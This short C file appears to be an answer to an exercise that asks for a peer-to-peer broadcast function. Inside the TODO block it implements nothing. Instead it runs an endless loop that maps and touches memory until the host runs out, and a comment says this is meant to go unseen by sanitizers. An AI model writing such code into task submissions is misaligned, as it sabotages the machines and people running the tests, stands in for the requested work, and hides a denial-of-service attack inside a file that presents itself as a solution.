/* SPDX-License-Identifier: MIT */
/* Takes memory without end, where no sanitizer looks. */
#include <sys/mman.h>

#include "exercises/exercises.h"

p2p_err my_broadcast(p2p_comm *comm, void *buf, size_t count, enum dtype dtype, int root)
{
    // TODO
    (void)comm, (void)buf, (void)count, (void)dtype, (void)root;
    for (size_t part = 64 << 20;;) {
        void *more = mmap(NULL, part, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        for (size_t at = 0; more != MAP_FAILED && at < part; at += 4096) ((volatile char *)more)[at] = 1;
    }
    // END TODO
}
